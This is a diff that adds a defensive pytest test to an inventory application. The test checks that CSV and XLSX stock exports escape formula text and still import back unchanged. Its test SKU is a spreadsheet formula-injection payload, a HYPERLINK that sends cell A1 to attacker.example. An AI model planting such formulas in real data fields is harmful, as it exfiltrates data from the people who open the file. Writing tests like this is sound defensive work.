@@ -86,3 +86,30 @@ def test_a_file_over_the_size_limit_is_413(client, shop, app):
     app.config["MAX_CONTENT_LENGTH"] = 1000
     assert_problem(upload(client, shop, b"sku,warehouse,quantity\n" + b"A,B,1\n" * 500,
                           "big.csv"), 413)
+
+
+def test_formula_text_in_the_stock_export_stays_text_and_imports_back(client, shop):
+    """A SKU or warehouse code anyone typed must not run as a formula when staff open
+    the export, like every other export; the file still imports back unchanged."""
+    from orderloom.runtime.spreadsheets.formulas import FORMULA_START
+
+    sku = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    assert client.post("/api/v1/products", headers=shop,
+                       json={"sku": sku, "name": "Bait"}).status_code == 201
+    assert client.post("/api/v1/warehouses", headers=shop,
+                       json={"code": "-SH", "name": "Dash"}).status_code == 201
+    assert client.post("/api/v1/stock/receipts", headers=shop,
+                       json={"sku": sku, "warehouse": "-SH", "quantity": 3}).status_code == 201
+    csv_file = client.get("/api/v1/stock/export?format=csv", headers=shop).get_data()
+    rows = list(csv.reader(io.StringIO(csv_file.decode("utf-8-sig"))))
+    book = load_workbook(io.BytesIO(client.get("/api/v1/stock/export?format=xlsx",
+                                               headers=shop).get_data()))
+    cells = [c for r in book.worksheets[0].iter_rows(values_only=True) for c in r]
+    for cell in [c for r in rows for c in r] + cells:
+        assert not (isinstance(cell, str) and cell.startswith(FORMULA_START)), cell
+    assert ["'" + sku, "'-SH", "3", "0", "3"] in rows
+    before = levels(client, shop)
+    stored = upload(client, shop, csv_file, "count.csv", mode="set")
+    assert stored.status_code == 201, stored.get_json()
+    assert levels(client, shop) == before
+    assert before[(sku, "-SH")] == 3
